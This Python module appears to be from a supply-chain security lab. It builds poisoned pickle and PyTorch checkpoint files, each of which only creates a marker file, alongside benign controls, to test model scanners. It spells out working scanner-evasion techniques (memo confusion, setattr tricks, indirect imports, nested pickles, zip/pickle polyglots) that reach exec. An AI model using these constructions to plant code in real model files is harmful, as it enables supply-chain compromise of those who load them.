"""The poisoned checkpoints of the supply-chain lab, and the benign controls.

Each payload's only effect, if it is ever unpickled, is to create a marker file `llmlab-marker-NAME` in the
working folder of the process that loads it (a relative path: the lab runs every loader in a throwaway folder).
Most are written opcode by opcode (pickletools names in the comments) because the tricks live below what
pickle.dumps would write. References name the issue or advisory each technique comes from."""

from __future__ import annotations

import io
import pickle
import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MARKER_PREFIX = "llmlab-marker-"


def marker_name(payload: str) -> str:
    """The marker file a payload creates when it runs."""
    return MARKER_PREFIX + payload


def marker_code(payload: str) -> str:
    """The Python a payload runs: create its marker file in the current folder, nothing else."""
    return f"open({marker_name(payload)!r}, 'w').write('payload {payload} ran here')"


# ----------------------------------------------------------------------------- opcodes (pickletools names)

PROTO4 = b"\x80\x04"  # PROTO 4: dotted names in STACK_GLOBAL are resolved attribute by attribute
STACK_GLOBAL = b"\x93"
REDUCE = b"R"  # call: callable, args tuple -> result
BUILD = b"b"  # obj.__setstate__(state) or, for (None, slotstate), setattr(obj, k, v) for each item
TUPLE1, TUPLE2, TUPLE3 = b"\x85", b"\x86", b"\x87"
MEMOIZE = b"\x94"  # memo[len(memo)] = top of stack
POP = b"0"
NONE = b"N"
NEWTRUE = b"\x88"
EMPTY_DICT = b"}"
SETITEM = b"s"
STOP = b"."


def u(s: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE when longer than 255 bytes): push a str."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def binbytes(b: bytes) -> bytes:
    """BINBYTES: push a bytes object."""
    return b"B" + struct.pack("<I", len(b)) + b


def glob(module: str, name: str) -> bytes:
    """GLOBAL 'module name': push module.name (a dotted name under protocol 4)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def binput(i: int) -> bytes:
    """BINPUT i: memo[i] = top of stack."""
    return b"q" + bytes([i])


def binget(i: int) -> bytes:
    """BINGET i: push memo[i]."""
    return b"h" + bytes([i])


def call1(arg: bytes) -> bytes:
    """Call the callable on the stack with one argument."""
    return arg + TUPLE1 + REDUCE


# ----------------------------------------------------------------------------- payloads


class _Exec:
    """What pickle.dumps writes for an object whose __reduce__ returns (exec, (code,))."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        return (exec, (self.code,))


def reduce_exec(name: str) -> bytes:
    """The textbook payload: __reduce__ -> builtins.exec(code), as pickle.dumps writes it."""
    return pickle.dumps(_Exec(marker_code(name)), protocol=4)


def memo_confusion(name: str) -> bytes:
    """picklescan issue 14: the dangerous names go into the memo with BINPUT, safe-looking names with MEMOIZE.
    A scanner that numbered MEMOIZE entries from 0 while ignoring BINPUT resolved memo[0] to 'torch._utils'."""
    return (PROTO4 + u("builtins") + binput(0) + POP + u("exec") + binput(1) + POP
            + u("torch._utils") + MEMOIZE + POP + u("_rebuild_tensor_v2") + MEMOIZE + POP
            + binget(0) + binget(1) + STACK_GLOBAL + call1(u(marker_code(name))) + STOP)


def memo_copy(name: str) -> bytes:
    """The memo trackers record the *argument of the opcode before* a PUT, not the value on the stack. Copying
    a memo entry (BINGET 0; BINPUT 2) therefore records the integer 0 instead of the string 'builtins', and the
    STACK_GLOBAL built from the copies resolves, for the scanner, to the module '0'."""
    return (PROTO4 + u("builtins") + binput(0) + POP + u("exec") + binput(1) + POP
            + binget(0) + binput(2) + POP + binget(1) + binput(3) + POP
            + binget(2) + binget(3) + STACK_GLOBAL + call1(u(marker_code(name))) + STOP)


def build_setattr(name: str) -> bytes:
    """modelscan issue 85: BUILD with a (None, slotstate) state is setattr. It stores the strings 'builtins'
    and 'exec' as attributes m and n of an innocuous function (pickletools.dis); the dotted globals
    'pickletools dis.m' / 'dis.n' then push those *strings* at load time, and STACK_GLOBAL turns them into
    builtins.exec. The scanners see only pickletools and the opaque names 'dis.m' and 'dis.n'."""

    def setattr_(attr: str, value: str) -> bytes:
        return glob("pickletools", "dis") + NONE + EMPTY_DICT + u(attr) + u(value) + SETITEM + TUPLE2 + BUILD

    return (PROTO4 + setattr_("m", "builtins") + setattr_("n", "exec") + POP
            + glob("pickletools", "dis.m") + binput(0) + POP + glob("pickletools", "dis.n") + binput(1) + POP
            + binget(0) + binget(1) + STACK_GLOBAL + call1(u(marker_code(name))) + STOP)


def importlib_import_module(name: str) -> bytes:
    """picklescan issue 66: operator.getitem(vars(importlib.import_module('builtins')), 'exec')(code). No global
    names a function that runs code; importlib, vars and operator.getitem are not on the denylists."""
    return (PROTO4 + u("operator") + u("getitem") + STACK_GLOBAL
            + u("builtins") + u("vars") + STACK_GLOBAL
            + u("importlib") + u("import_module") + STACK_GLOBAL + call1(u("builtins"))
            + TUPLE1 + REDUCE  # vars(module) -> its __dict__
            + u("exec") + TUPLE2 + REDUCE  # getitem(__dict__, 'exec') -> exec
            + call1(u(marker_code(name))) + STOP)


def pkgutil_resolve_name(name: str) -> bytes:
    """picklescan issue 66 / advisory: pkgutil.resolve_name('builtins:exec') imports any module:attribute."""
    return (PROTO4 + u("pkgutil") + u("resolve_name") + STACK_GLOBAL + call1(u("builtins:exec"))
            + call1(u(marker_code(name))) + STOP)


def attribute_chain(name: str) -> bytes:
    """picklescan issue 66: protocol 4 resolves the dotted name 'io.open' inside the module pathlib attribute by
    attribute, reaching io.open (= builtins.open) through pathlib's own `import io`. The scanners see a global
    of pathlib; the call opens (creates) the marker file for writing."""
    return PROTO4 + u("pathlib") + u("io.open") + STACK_GLOBAL + u(marker_name(name)) + u("w") + TUPLE2 + REDUCE + STOP


def nested_pickle(name: str) -> bytes:
    """A pickle inside a pickle: numpy.load(io.BytesIO(inner), None, True) unpickles `inner` (allow_pickle=True
    is its third positional argument). To a scanner the inner pickle is one opaque BINBYTES constant; both
    picklescan and modelscan list numpy.load under 'TODO: methods loading other pickle files'."""
    inner = reduce_exec(name)
    return (PROTO4 + u("numpy") + u("load") + STACK_GLOBAL
            + u("io") + u("BytesIO") + STACK_GLOBAL + call1(binbytes(inner))
            + NONE + NEWTRUE + TUPLE3 + REDUCE + STOP)


def _torch_save(obj: object) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def torch_zip_payload(name: str) -> bytes:
    """A real torch.save zip whose data.pkl holds the payload next to a tensor."""
    import torch

    return _torch_save({"weight": torch.zeros(4, 4), "config": _Exec(marker_code(name))})


def polyglot(name: str) -> bytes:
    """A pickle payload followed by a benign torch.save zip. Zip readers find the archive from its end (the
    central directory) and see a clean checkpoint; pickle.load and torch.load read from byte 0 (torch.load
    takes the legacy path because the file does not start with 'PK') and run the payload."""
    import torch

    return reduce_exec(name) + _torch_save({"weight": torch.ones(2, 2)})


@dataclass(frozen=True)
class Payload:
    """One row of the lab: a file, how it works, where the technique comes from, whether it is a control."""

    name: str
    filename: str
    technique: str
    reference: str
    control: bool
    build: Callable[[Path], None]

    @property
    def doc(self) -> str:
        return " ".join((getattr(self.build, "__doc__", None) or "").split())

    @property
    def marker(self) -> str | None:
        return None if self.control else marker_name(self.name)


def _bytes(fn: Callable[[str], bytes], name: str, filename: str) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        (folder / filename).write_bytes(fn(name))

    build.__doc__ = fn.__doc__
    return build


def _benign_state_dict(folder: Path) -> None:
    """A real torch.save of an nn.Linear state dict, as a model hub holds it (pytorch_model.bin)."""
    import torch

    torch.manual_seed(0)
    (folder / "pytorch_model.bin").write_bytes(_torch_save(torch.nn.Linear(8, 4).state_dict()))


def _benign_numpy(folder: Path) -> None:
    """A float NumPy array saved with np.save (no object dtype, so no pickle)."""
    import numpy as np

    np.save(folder / "array.npy", np.arange(32, dtype=np.float32).reshape(4, 8))


def _benign_safetensors(folder: Path) -> None:
    """An llmlab run folder (model.safetensors, config.json, manifest.json) of a tiny GPT."""
    import torch

    from llmlab.checkpoint import save_run_model
    from llmlab.config import ModelConfig
    from llmlab.models import build_model

    torch.manual_seed(0)
    save_run_model(folder, build_model(ModelConfig(vocab_size=32, block_size=16, n_layer=1, n_head=2, n_embd=16)))


def _p(name: str, filename: str, technique: str, reference: str, fn: Callable[[str], bytes]) -> Payload:
    return Payload(name, filename, technique, reference, False, _bytes(fn, name, filename))


PAYLOADS: tuple[Payload, ...] = (
    _p("reduce_exec", "reduce_exec.pkl", "plain __reduce__ payload", "Python pickle documentation, 'Warning'",
       reduce_exec),
    _p("memo_confusion", "memo_confusion.pkl", "memo confusion (BINPUT vs MEMOIZE)",
       "mmaitre314/picklescan#14; protectai/modelscan PR 54", memo_confusion),
    _p("memo_copy", "memo_copy.pkl", "memo copy (PUT records the previous opcode's argument)",
       "protectai/modelscan#85 (root cause), #338; mmaitre314/picklescan PR 52", memo_copy),
    _p("build_setattr", "build_setattr.pkl", "BUILD/setattr state trick", "protectai/modelscan#85", build_setattr),
    _p("importlib_import_module", "importlib.pkl", "indirect import: importlib.import_module + vars + getitem",
       "mmaitre314/picklescan#66", importlib_import_module),
    _p("pkgutil_resolve_name", "resolve_name.pkl", "indirect import: pkgutil.resolve_name",
       "mmaitre314/picklescan#66 and its advisory", pkgutil_resolve_name),
    _p("attribute_chain", "attribute_chain.pkl", "attribute chain: pathlib -> io.open",
       "mmaitre314/picklescan#66", attribute_chain),
    _p("nested_pickle", "nested.pkl", "nested pickle via numpy.load(allow_pickle=True)",
       "picklescan/modelscan source 'TODO: methods loading other Pickle files'; protectai/modelscan#267",
       nested_pickle),
    _p("torch_zip_odd_extension", "model.weights", "pickle in a PyTorch zip with a non-standard extension",
       "protectai/modelscan#263 (detection gaps); torch.load ignores the extension", torch_zip_payload),
    _p("polyglot_bin", "pytorch_model.bin", "polyglot: pickle + zip, named .bin",
       "trailofbits/fickling polyglot module; PyTorch issue 31877 (file formats)", polyglot),
    _p("polyglot_pkl", "model.pkl", "polyglot: the same bytes, named .pkl",
       "trailofbits/fickling polyglot module", polyglot),
    Payload("benign_state_dict", "pytorch_model.bin", "control: a real torch.save state dict", "", True,
            _benign_state_dict),
    Payload("benign_numpy", "array.npy", "control: a NumPy array", "", True, _benign_numpy),
    Payload("benign_safetensors", "model.safetensors", "control: an llmlab run folder (safetensors)", "", True,
            _benign_safetensors),
)


def build_payloads(root: str | Path, names: list[str] | None = None) -> dict[str, Path]:
    """Write each payload (or the named ones) into ROOT/NAME/; return {name: path of its file}."""
    root = Path(root)
    out = {}
    for p in PAYLOADS:
        if names is not None and p.name not in names:
            continue
        folder = root / p.name
        folder.mkdir(parents=True, exist_ok=True)
        p.build(folder)
        out[p.name] = folder / p.filename
    return out
